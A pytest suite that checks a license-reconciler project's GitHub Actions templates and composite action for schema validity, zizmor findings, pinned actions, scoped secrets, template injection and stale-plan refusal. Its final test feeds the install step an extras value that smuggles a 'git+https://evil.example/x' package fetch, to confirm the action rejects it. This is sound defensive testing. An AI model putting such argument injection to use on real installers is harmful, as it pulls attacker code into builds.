"""The GitHub Actions templates and the composite action: schema-valid, zizmor-clean under
the auditor persona, secrets only where they are used and behind deployment environments,
and the apply step refuses a stale plan exactly as written."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.pipeline import load_desired
from reconciler.sandbox.serve import ServedSimulators, environment_for
from reconciler.sandbox.yext import YextSimulator
from tests.e2e.conftest import EXAMPLES, REPO
from tests.e2e.reliability import fast_example

FOLDER = REPO / "examples" / "github-actions"
TEMPLATES = sorted(FOLDER.glob("*.yml"))
VARIANTS = [*TEMPLATES, *sorted((FOLDER / "postgresql").glob("*.yml"))]
ACTION = REPO / "action.yml"
WORKFLOWS = [*VARIANTS, REPO / ".github" / "workflows" / "ci.yml"]
THIS_ACTION = re.compile(r"uses: license-reconciler/reconciler@[0-9a-f]{40} # v\S+$", re.M)


def tool(name: str) -> str:
    found = shutil.which(name) or str(Path(sys.executable).parent / name)
    assert Path(found).exists(), f"{name} is installed by the dev extras"
    return found


@pytest.mark.parametrize("folder", [FOLDER, FOLDER / "postgresql"], ids=["artifact", "postgresql"])
def test_each_variant_has_the_three_templates(folder):
    assert [t.name for t in sorted(folder.glob("*.yml"))] == [
        "reconciler-apply.yml", "reconciler-drift.yml", "reconciler-plan.yml"]


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=[str(w.relative_to(REPO)) for w in WORKFLOWS])
def test_workflow_matches_the_github_workflow_schema(workflow):
    result = subprocess.run([tool("check-jsonschema"), "--builtin-schema",
                             "vendor.github-workflows", str(workflow)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_action_matches_the_github_action_schema():
    result = subprocess.run([tool("check-jsonschema"), "--builtin-schema",
                             "vendor.github-actions", str(ACTION)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def zizmor(*files: Path, persona: str) -> list[dict[str, Any]]:
    result = subprocess.run([tool("zizmor"), "--offline", f"--persona={persona}", "--format",
                             "json", *map(str, files)],
                            capture_output=True, text=True, check=False)
    assert result.returncode != 1 and result.stdout.lstrip().startswith("["), result.stderr
    for workflow in files:  # every file was audited, none skipped
        assert f"completed {workflow}" in result.stderr, result.stderr
    findings: list[dict[str, Any]] = json.loads(result.stdout)
    return findings


def test_zizmor_auditor_persona_finds_nothing_in_the_templates_and_the_action():
    findings = zizmor(*VARIANTS, ACTION, persona="auditor")
    assert [(f["ident"], f["locations"][0]["symbolic"]["key"]) for f in findings] == []


def test_zizmor_finds_nothing_medium_or_high_in_this_repositorys_ci():
    findings = zizmor(REPO / ".github" / "workflows" / "ci.yml", persona="regular")
    serious = [(f["ident"], f["determinations"]["severity"]) for f in findings
               if f["determinations"]["severity"] in {"Medium", "High"}]
    assert serious == []


def test_no_file_installs_the_unrelated_package_of_the_same_name():
    unrelated = re.compile(r"pip install (-U |--upgrade )?[\"']?reconciler\b(?![-/])")
    roots = [REPO / name for name in ("README.md", "pyproject.toml", "action.yml", ".github", ".ci",
                                      "docs", "examples", "reconciler", "tests", "benchmarks")]
    files = [root for root in roots if root.is_file()] + [
        path for root in roots if root.is_dir() for path in root.rglob("*")
        if path.is_file() and "__pycache__" not in path.parts]
    assert len(files) > 100
    offenders = [str(path.relative_to(REPO)) for path in files
                 if path.suffix in {".md", ".yml", ".yaml", ".py", ".toml", ".txt", ".cfg",
                                    ".sh", ""}
                 and unrelated.search(path.read_text(errors="replace"))]
    assert offenders == []


@pytest.mark.parametrize("template", VARIANTS, ids=[str(t.relative_to(FOLDER)) for t in VARIANTS])
def test_the_template_installs_this_repositorys_action_pinned_by_commit(template):
    text = template.read_text()
    assert "pip install" not in text
    assert len(THIS_ACTION.findall(text)) == 1
    postgres = template.parent.name == "postgresql"
    install = next(s for s in _job(template)["steps"] if s.get("name") == "Install reconciler")
    assert install["with"].get("extras") == ("postgres" if postgres else None)


@pytest.mark.parametrize("template", VARIANTS, ids=[str(t.relative_to(FOLDER)) for t in VARIANTS])
def test_secrets_live_in_a_deployment_environment_and_reach_only_the_steps_using_them(template):
    text = template.read_text()
    for line in text.splitlines():
        if "uses:" in line:
            ref = line.split("@", 1)[1].split()[0]
            assert len(ref) == 40, f"{template.name}: {line.strip()} is not pinned"
    document = yaml.safe_load(text)
    assert "env" not in document
    job = _job(template)
    assert "secrets." not in json.dumps(job.get("env", {})), "no job-level secrets"
    expected = "reconciler-apply" if template.name == "reconciler-apply.yml" else "reconciler-plan"
    assert job["environment"] == expected
    for step in job["steps"]:
        assert "${{" not in step.get("run", ""), f"{template.name}: template injection"
        script = step.get("with", {}).get("script", "")
        assert "${{" not in script, f"{template.name}: template injection in a script"
        if "secrets." in json.dumps(step.get("env", {})):
            assert "reconciler " in step.get("run", ""), f"{step['name']} needs no secret"


def test_pull_requests_never_run_with_the_apply_credentials():
    for template in VARIANTS:
        triggers = yaml.safe_load(template.read_text())[True]  # YAML 1.1 reads `on:` as True
        if "pull_request" in triggers or "pull_request_target" in triggers:
            assert _job(template)["environment"] != "reconciler-apply"
    apply_triggers = yaml.safe_load((FOLDER / "reconciler-apply.yml").read_text())[True]
    assert set(apply_triggers) == {"push", "workflow_dispatch"}


def _job(template: Path) -> dict[str, Any]:
    (job,) = yaml.safe_load(template.read_text())["jobs"].values()
    assert isinstance(job, dict)
    return job


def _template(name: str) -> dict[str, Any]:
    document = yaml.safe_load((REPO / "examples" / "github-actions" / name).read_text())
    assert isinstance(document, dict)
    return document


def _steps(name: str) -> list[dict[str, Any]]:
    (job,) = _template(name)["jobs"].values()
    return list(job["steps"])


def _plain_env(name: str) -> dict[str, str]:
    """The job's environment that does not come from GitHub (secrets, vars)."""
    (job,) = _template(name)["jobs"].values()
    return {k: str(v) for k, v in job["env"].items() if "${{" not in str(v)}


def _apply_step() -> dict[str, Any]:
    step = next(s for s in _steps("reconciler-apply.yml")
                if s.get("name") == "Apply exactly the reviewed plan")
    assert step["env"]["PLANFILE"] == "reviewed/plan.json"
    return step


def test_apply_downloads_the_plan_of_the_merged_pull_requests_head_commit():
    steps = _steps("reconciler-apply.yml")
    names = [s.get("name") for s in steps]
    lookup, download = (steps[names.index("Find the merged pull request's head commit")],
                        steps[names.index("Download the reviewed plan")])
    assert "merged.head.sha" in lookup["with"]["script"]
    # Without `commit`, the action takes the latest plan run of ANY pull request.
    assert download["with"]["commit"] == "${{ steps.pr.outputs.result }}"
    assert download["with"]["name"] == "reconciler-plan-${{ steps.pr.outputs.result }}"
    assert download["with"]["path"] + "/plan.json" == _apply_step()["env"]["PLANFILE"]
    uploaded = next(s for s in _steps("reconciler-plan.yml")
                    if s.get("name") == "Keep the reviewed plan")
    assert uploaded["with"]["name"] == "reconciler-plan-${{ github.event.pull_request.head.sha }}"


@pytest.mark.parametrize("template", [t.name for t in TEMPLATES])
def test_the_journal_is_carried_from_apply_to_every_run(template):
    journal = _plain_env(template)["RECONCILER_JOURNAL"]
    # upload-artifact (v4.4+) silently leaves out anything under a hidden directory.
    assert not any(part.startswith(".") for part in Path(journal).parts)
    steps = _steps(template)
    restore = next(s for s in steps if s.get("name") == "Restore the journal of the last apply")
    assert restore["with"]["workflow"] == "reconciler-apply.yml"
    assert restore["with"]["name"] == "reconciler-journal"
    assert restore["with"]["path"] == str(Path(journal).parent)
    assert restore["with"]["search_artifacts"] is True
    assert steps.index(restore) < next(i for i, s in enumerate(steps)
                                       if "reconciler plan" in s.get("run", "")
                                       or "reconciler apply" in s.get("run", "")
                                       or "reconciler drift" in s.get("run", ""))
    for step in steps:
        for command in re.findall(r"^ *reconciler (?:plan|apply|drift) .*$", step.get("run", ""),
                                  re.M):
            assert '--journal "$RECONCILER_JOURNAL"' in command, step["name"]
    kept = [s for s in _steps("reconciler-apply.yml") if s.get("name") == "Keep the journal"]
    assert kept[0]["if"] == "always()"
    assert (kept[0]["with"]["name"], kept[0]["with"]["path"]) == ("reconciler-journal", journal)


def test_the_apply_step_fails_the_job_on_a_stale_plan(workspace, cli):
    desired = workspace / "licenses"
    desired.mkdir()
    shutil.copy(EXAMPLES / "yext.yaml", desired / "yext.yaml")
    step = _apply_step()
    simulator = YextSimulator()
    with ServedSimulators({"yext": simulator}) as served:
        env = environment_for(load_desired([str(desired)]), served.urls)
        plain_step_env = {k: v for k, v in step["env"].items() if "${{" not in v}
        job_env = {**os.environ, **env, **_plain_env("reconciler-apply.yml"), **plain_step_env,
                   "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        assert cli("plan", "licenses", "--out", "reviewed/plan.json", env=env).exit_code == 0
        simulator.state["accounts"]["me"]["assignments"]["knowledge-pro"]["hq"] = None
        job = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=workspace,
                             capture_output=True, text=True, env=job_env, check=False)
    assert job.returncode == 1
    assert "refusing the saved plan" in job.stderr and "Run `reconciler plan` again" in job.stderr
    assert (workspace / job_env["RECONCILER_JOURNAL"]).exists(), "the journal is kept"


@pytest.mark.parametrize("template", ["reconciler-apply.yml", "postgresql/reconciler-apply.yml"])
def test_the_apply_job_shows_the_reviewed_plan_before_applying_it(template, workspace, cli):
    steps = _steps(template)
    names = [s.get("name") for s in steps]
    show = steps[names.index("Show the plan about to be applied")]
    assert names.index("Show the plan about to be applied") < names.index(
        "Apply exactly the reviewed plan")
    desired = str(fast_example(workspace, "yext"))
    assert cli("plan", desired, "--sandbox", "--out", "reviewed/plan.json").exit_code == 0
    summary = workspace / "summary.md"
    job = subprocess.run(["bash", "-e", "-c", show["run"]], cwd=workspace, text=True,
                         capture_output=True, check=False,
                         env={**os.environ, **show["env"], "GITHUB_STEP_SUMMARY": str(summary)})
    assert job.returncode == 0, job.stderr
    assert summary.read_text().startswith("**4 changes: 2 grants added, 🔴 2 removed**\n")


@pytest.mark.parametrize(("extras", "target"), [("", ""), ("postgres", "[postgres]")])
def test_the_action_installs_its_own_checkout(tmp_path, extras, target):
    """The install step as written, with `python` recording the call (the runner in
    test_workflow_flows.py stands this one step in; here it runs)."""
    (install,) = [s for s in yaml.safe_load(ACTION.read_text())["runs"]["steps"]
                  if s.get("id") == "install"]
    assert install["env"] == {"ACTION_PATH": "${{ github.action_path }}",
                              "EXTRAS": "${{ inputs.extras }}"}
    shim = tmp_path / "python"
    shim.write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$(dirname "$0")/called"\n')
    shim.chmod(0o755)
    done = subprocess.run(["bash", "-e", "-c", install["run"]], capture_output=True, text=True,
                          check=False, env={"PATH": f"{tmp_path}:/usr/bin:/bin",
                                            "ACTION_PATH": str(REPO), "EXTRAS": extras})
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "called").read_text().splitlines() == [
        "-m", "pip", "install", "--disable-pip-version-check", "--quiet", f"{REPO}{target}"]


def test_the_action_refuses_extras_that_are_not_names(tmp_path):
    (install,) = [s for s in yaml.safe_load(ACTION.read_text())["runs"]["steps"]
                  if s.get("id") == "install"]
    done = subprocess.run(["bash", "-e", "-c", install["run"]], capture_output=True, text=True,
                          check=False, env={"PATH": f"{tmp_path}:/usr/bin:/bin",
                                            "ACTION_PATH": str(REPO),
                                            "EXTRAS": "postgres] git+https://evil.example/x"})
    assert done.returncode == 1 and "extras must be names" in done.stderr
